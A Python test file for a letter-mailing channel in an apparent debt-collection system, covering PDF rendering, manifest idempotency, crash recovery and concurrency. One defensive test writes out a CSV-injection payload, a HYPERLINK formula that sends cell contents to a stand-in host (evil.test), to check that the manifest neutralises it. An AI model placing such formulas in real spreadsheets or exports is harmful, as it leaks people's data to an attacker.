"""LetterChannel: a real WeasyPrint PDF, read back with pypdf; the manifest; idempotency."""

from __future__ import annotations

import asyncio
import csv
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from pypdf import PdfReader

from outreach.channels.base import OutboundMessage, PostalAddress, SendStatus
from outreach.channels.letter import LOOKBACK_DAYS, MANIFEST_HEADER, LetterChannel
from outreach.clock import SimulatedClock
from outreach.render.context import sample_context
from outreach.render.environment import MINI_MIRANDA, MINI_MIRANDA_FIRST, Renderer

# 18:30 on December 15 in New York is 23:30 UTC... and 00:30 UTC on the 16th an hour later.
EASTERN = timezone(timedelta(hours=-5))
START = datetime(2026, 12, 15, 19, 30, tzinfo=EASTERN)
ADDRESS = PostalAddress(
    name="Jordan A. Rivera",
    line1="1428 Elm Street",
    line2="Apt 3B",
    city="Fresno",
    state="CA",
    zip="93721",
)


def letter(
    message_id: int, html: str | None, postal: PostalAddress | None = ADDRESS
) -> OutboundMessage:
    return OutboundMessage(
        message_id=message_id,
        channel="letter",
        to=ADDRESS.name,
        text="",
        html=html,
        template="letter/validation_notice",
        account_ref="****4821",
        postal=postal,
    )


@pytest.fixture(scope="module")
def notice_html() -> str:
    html = Renderer().render("letter/validation_notice", sample_context("letter")).html
    assert html is not None
    return html


def read_manifest(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


async def test_validation_notice_pdf_and_manifest(tmp_path: Path, notice_html: str) -> None:
    clock = SimulatedClock(START)
    channel = LetterChannel(tmp_path, clock=clock)
    started = time.perf_counter()
    result = await channel.send(letter(42, notice_html))
    elapsed = time.perf_counter() - started

    assert result.status is SendStatus.SENT, result
    day = tmp_path / "2026-12-16"  # the UTC date, not the Eastern one
    pdf = day / "letter-42.pdf"
    assert result.provider_id == "letter-2026-12-16-42"
    assert result.detail == {"path": str(pdf), "pages": "2"}
    assert pdf.read_bytes().startswith(b"%PDF-")
    assert not [p for p in day.iterdir() if p.name.endswith(".tmp")]

    reader = PdfReader(pdf)
    assert len(reader.pages) == 2
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    for needed in [
        "Jordan A. Rivera",
        "$1,184.20",  # itemization amount
        "$42.36",  # interest
        "$35.00",  # fees
        "$27.00",  # payments and credits
        "$1,234.56",  # total now
        "January 21, 2027",  # end of the validation period
        "How do you want to respond?",
        "www.cfpb.gov/debt-collection",
        MINI_MIRANDA,
        MINI_MIRANDA_FIRST,
    ]:
        assert needed in text, needed

    rows = read_manifest(day / "manifest.csv")
    assert list(rows[0]) == list(MANIFEST_HEADER)
    assert rows == [
        {
            "message_id": "42",
            "file": "letter-42.pdf",
            "recipient": "Jordan A. Rivera",
            "address_line1": "1428 Elm Street",
            "address_line2": "Apt 3B",
            "city": "Fresno",
            "state": "CA",
            "zip": "93721",
            "account": "****4821",
            "template": "letter/validation_notice",
            "pages": "2",
            "created_at": "2026-12-16T00:30:00+00:00",
        }
    ]

    # The same message again the same day: same answer, no second row, no second render.
    clock.advance(timedelta(hours=2))
    mtime = pdf.stat().st_mtime_ns
    again = await channel.send(letter(42, notice_html))
    assert again == result
    assert len(read_manifest(day / "manifest.csv")) == 1
    assert pdf.stat().st_mtime_ns == mtime
    await channel.aclose()
    print(f"\nvalidation notice PDF: {elapsed * 1000:.0f} ms (first letter in the process)")


async def test_validation_notice_outside_california_is_one_page(tmp_path: Path) -> None:
    """As on Model Form B-1, the itemization and the rights sit on page 1 above the response
    form, with a full-length signed dispute link too; only California adds a page."""
    ctx = sample_context("letter")
    signed = "http://127.0.0.1:8000/dispute/eyJhIjoyfQ.aw7WRQ.drESfUrnJ2XzZJX1qsVzvHI6mdk"
    ctx = replace(
        ctx,
        account=replace(ctx.account, state="FL", creditor="First Keystone Bank, N.A."),
        agency=replace(ctx.agency, license=None),
        links=replace(ctx.links, dispute=signed),
        mailing_address=["Andrew Wright", "5140 Ridge Cir", "Port Richey, FL 34668"],
    )
    html = Renderer().render("letter/validation_notice", ctx).html
    result = await LetterChannel(tmp_path, clock=SimulatedClock(START)).send(letter(43, html))
    assert result.status is SendStatus.SENT and result.detail["pages"] == "1", result
    page = " ".join(PdfReader(result.detail["path"]).pages[0].extract_text().split())
    for needed in [
        "Total amount of the debt now: $1,234.56",
        "How can you dispute the debt?",
        "Contact us about your payment options.",
        "How do you want to respond?",
        "Reference ****4821",  # the footer
        "Page 1 of 1",
    ]:
        assert needed in page, needed


async def test_manifest_rows_accumulate_and_stay_whole(tmp_path: Path) -> None:
    clock = SimulatedClock(START)
    channel = LetterChannel(tmp_path, clock=clock)
    html = "<html><body><p>Short letter {n}.</p></body></html>"
    results = [await channel.send(letter(n, html.format(n=n))) for n in (1, 2, 1)]
    assert [r.status for r in results] == [SendStatus.SENT] * 3
    manifest = tmp_path / "2026-12-16" / "manifest.csv"
    rows = read_manifest(manifest)
    assert [r["message_id"] for r in rows] == ["1", "2"]
    assert manifest.read_text().endswith("\n")
    assert manifest.read_text().count('"message_id","file"') == 1


async def test_pdf_replaced_if_missing_without_a_second_row(tmp_path: Path) -> None:
    channel = LetterChannel(tmp_path, clock=SimulatedClock(START))
    html = "<p>Hello</p>"
    first = await channel.send(letter(7, html))
    Path(first.detail["path"]).unlink()
    second = await channel.send(letter(7, html))
    assert second.status is SendStatus.SENT
    assert Path(second.detail["path"]).exists()
    assert len(read_manifest(tmp_path / "2026-12-16" / "manifest.csv")) == 1


async def test_no_network_fetches(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """An image on the network is refused, not fetched; the letter still renders."""
    channel = LetterChannel(tmp_path, clock=SimulatedClock(START))
    html = '<p>Logo:</p><img src="http://127.0.0.1:9/logo.png"><p>after</p>'
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        result = await channel.send(letter(8, html))
    assert result.status is SendStatus.SENT
    assert "disallowed protocol" in caplog.text


@pytest.mark.parametrize(
    ("html", "postal", "code"),
    [("<p>x</p>", None, "no_address"), (None, ADDRESS, "no_html"), ("", ADDRESS, "no_html")],
)
async def test_missing_parts_are_permanent(
    tmp_path: Path, html: str | None, postal: PostalAddress | None, code: str
) -> None:
    channel = LetterChannel(tmp_path, clock=SimulatedClock(START))
    result = await channel.send(letter(9, html, postal))
    assert result.status is SendStatus.PERMANENT
    assert result.error_code == code and result.error_message
    assert not list(tmp_path.iterdir())


async def test_unwritable_output_is_retryable(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("a file where the folder should be")
    channel = LetterChannel(blocker, clock=SimulatedClock(START))
    result = await channel.send(letter(10, "<p>x</p>"))
    assert result.status is SendStatus.RETRYABLE
    assert result.error_code == "io_error"


# Re-runs: a worker killed mid-letter, a letter completed or answered on a later day.

DAY = "2026-12-16"  # START's UTC date
NEXT_DAY = "2026-12-17"
SHORT = "<html><body><p>Letter for message {mid}.</p></body></html>"
# A real process that is SIGKILLed at one point of producing a letter: the module's step
# functions are replaced in the child only, so the code under test has no test hooks.
CRASH = r"""
import asyncio, os, signal, sys
from datetime import datetime
from pathlib import Path
from outreach.channels import letter
from outreach.channels.base import OutboundMessage, PostalAddress
from outreach.clock import SimulatedClock

point, out, when, mid, html = sys.argv[1:6]


def die(*_args):
    os.kill(os.getpid(), signal.SIGKILL)


if point == "rendering":
    def torn(html, base_url, fetcher, tmp):
        tmp.write_bytes(b"%PDF-1.7\n% half a letter")
        die()
    letter._render_pdf = torn
elif point == "before_row":
    letter._append_row = die
elif point == "before_rename":
    letter._publish = die
elif point == "after_rename":
    publish = letter._publish
    def publish_then_die(tmp, final):
        publish(tmp, final)
        die()
    letter._publish = publish_then_die
postal = PostalAddress(name="Jordan A. Rivera", line1="1428 Elm Street", city="Fresno",
                       state="CA", zip="93721")
message = OutboundMessage(message_id=int(mid), channel="letter", to=postal.name, text="",
                          html=html, template="letter/short", account_ref="****4821",
                          postal=postal)
channel = letter.LetterChannel(Path(out), clock=SimulatedClock(datetime.fromisoformat(when)))
print(asyncio.run(channel.send(message)))
sys.exit(3)
"""


def manifests(root: Path) -> dict[str, list[dict[str, str]]]:
    return {m.parent.name: read_manifest(m) for m in sorted(root.glob("*/manifest.csv"))}


def temps(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.glob(".*.tmp")) if folder.exists() else []


def check_invariants(root: Path) -> None:
    """What a vendor may rely on: every final PDF is listed; no message is listed twice."""
    listed = [(day, row["message_id"]) for day, rows in manifests(root).items() for row in rows]
    ids = [mid for _, mid in listed]
    assert len(ids) == len(set(ids)), listed
    for pdf in root.glob("*/letter-*.pdf"):
        assert (pdf.parent.name, pdf.name[7:-4]) in listed, f"orphan PDF {pdf}"
    for path in root.glob("*/*"):
        assert path.name.startswith(".") or path.suffix in {".pdf", ".csv"}, path


def pdf_text(path: Path) -> str:
    return " ".join(page.extract_text() for page in PdfReader(path).pages)


def crash(tmp_path: Path, point: str, mid: int) -> Path:
    root = tmp_path / "crashed"
    args = [point, str(root), START.isoformat(), str(mid), SHORT.format(mid=mid)]
    done = subprocess.run(
        [sys.executable, "-c", CRASH, *args],
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == -signal.SIGKILL, done.stdout + done.stderr
    return root


@pytest.mark.parametrize(
    ("point", "row", "pdf", "temp"),
    [
        ("rendering", False, False, True),  # half a PDF under its hidden name
        ("before_row", False, False, True),  # a whole PDF, still hidden, no row
        ("before_rename", True, False, True),  # committed, the PDF not in place yet
        ("after_rename", True, True, False),  # done, but the worker never recorded it
    ],
)
async def test_killed_mid_letter_then_run_again(
    tmp_path: Path, point: str, row: bool, pdf: bool, temp: bool
) -> None:
    root = crash(tmp_path, point, 77)
    folder = root / DAY
    check_invariants(root)
    assert [r["message_id"] for r in manifests(root).get(DAY, [])] == (["77"] if row else [])
    assert (folder / "letter-77.pdf").exists() is pdf
    assert bool(temps(folder)) is temp
    if pdf:
        assert "Letter for message 77." in pdf_text(folder / "letter-77.pdf")

    # The reaper plans it again: the same day, or (a long outage, midnight) the next day.
    for rerun_day, when in [(DAY, START), (NEXT_DAY, START + timedelta(days=1))]:
        copy = tmp_path / f"rerun-{rerun_day}"
        shutil.copytree(root, copy)
        before = {p.name: p.stat().st_mtime_ns for p in copy.glob("*/*")}
        channel = LetterChannel(copy, clock=SimulatedClock(when))
        result = await channel.send(letter(77, SHORT.format(mid=77)))

        day = DAY if row else rerun_day  # a committed letter stays in its day's batch
        assert result.status is SendStatus.SENT, result
        assert result.provider_id == f"letter-{day}-77"
        assert result.detail == {"path": str(copy / day / "letter-77.pdf"), "pages": "1"}
        assert "Letter for message 77." in pdf_text(copy / day / "letter-77.pdf")
        check_invariants(copy)
        assert [(d, r["message_id"]) for d, rows in manifests(copy).items() for r in rows] == [
            (day, "77")
        ]
        assert temps(copy / day) == []  # the killed run's leftovers went with this run
        if pdf:  # nothing to do, nothing written
            assert {p.name: p.stat().st_mtime_ns for p in copy.glob("*/*")} == before
        assert not (copy / NEXT_DAY).exists() or day == NEXT_DAY


async def test_rerun_finds_a_letter_from_days_ago(tmp_path: Path) -> None:
    clock = SimulatedClock(START)
    first = await LetterChannel(tmp_path, clock=clock).send(letter(5, SHORT.format(mid=5)))
    pdf = Path(first.detail["path"])
    clock.advance(timedelta(days=LOOKBACK_DAYS))
    later = LetterChannel(tmp_path, clock=clock)  # a new process: nothing cached

    assert await later.send(letter(5, SHORT.format(mid=5))) == first
    pdf.unlink()  # lost (the vendor took it, a disk fault): put back where the row says
    assert await later.send(letter(5, SHORT.format(mid=5))) == first
    assert "Letter for message 5." in pdf_text(pdf)
    assert sorted(p.name for p in tmp_path.iterdir()) == [DAY]
    check_invariants(tmp_path)


async def test_stale_temporary_files_are_swept(tmp_path: Path) -> None:
    old_day = tmp_path / "2026-12-13"
    old_day.mkdir()
    stale = old_day / ".letter-3.pdf.0a1b2c.tmp"  # a process killed three days ago
    fresh = tmp_path / DAY / ".letter-4.pdf.3d4e5f.tmp"  # another process rendering now
    fresh.parent.mkdir()
    for path in (stale, fresh):
        path.write_bytes(b"%PDF-1.7\n% half")
    hour_ago = time.time() - 3600
    os.utime(stale, (hour_ago, hour_ago))
    vendor_file = old_day / "letter-3.pdf"  # not ours to clean: only hidden temporaries go
    vendor_file.write_bytes(b"%PDF-1.7\n")

    result = await LetterChannel(tmp_path, clock=SimulatedClock(START)).send(letter(9, "<p>x</p>"))
    assert result.status is SendStatus.SENT
    assert not stale.exists()
    assert fresh.exists() and vendor_file.exists()


async def test_two_workers_on_one_message_make_one_letter(tmp_path: Path) -> None:
    """A reaped worker still running while the new one sends: one row, one PDF, one answer."""
    message = letter(11, SHORT.format(mid=11))
    workers = [LetterChannel(tmp_path, clock=SimulatedClock(START)) for _ in range(3)]
    results = await asyncio.gather(*(w.send(message) for w in workers))
    assert results[0].status is SendStatus.SENT
    assert all(r == results[0] for r in results)
    assert [r["message_id"] for r in read_manifest(tmp_path / DAY / "manifest.csv")] == ["11"]
    assert temps(tmp_path / DAY) == []
    check_invariants(tmp_path)


# Each way a spreadsheet may start a formula (OWASP CSV Injection), a full-width sign and one
# behind spaces: the recipient's name and address come from the imported portfolio.
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "  ="]
TRIGGERS = set("=+-@\t\r\n\uff1d")


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
async def test_no_cell_of_the_manifest_can_start_a_formula(tmp_path: Path, prefix: str) -> None:
    payload = prefix + 'HYPERLINK("https://evil.test/?"&A1;"Pay")'
    postal = replace(ADDRESS, name=payload, line1=payload, city=payload)
    result = await LetterChannel(tmp_path, clock=SimulatedClock(START)).send(
        letter(5, "<p>Short letter.</p>", postal)
    )
    assert result.status is SendStatus.SENT, result
    manifest = tmp_path / "2026-12-16" / "manifest.csv"
    (row,) = read_manifest(manifest)
    assert row["recipient"] == row["address_line1"] == row["city"] == "'" + payload
    assert row["message_id"] == "5" and row["pages"] == "1" and row["state"] == "CA"
    assert not [c for c in row.values() if c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS]
    # Quoted, so a spreadsheet splitting on ';' cannot start a cell at `"Pay"` either.
    quoted = '"' + ("'" + payload).replace('"', '""') + '"'
    assert quoted in manifest.read_bytes().decode()
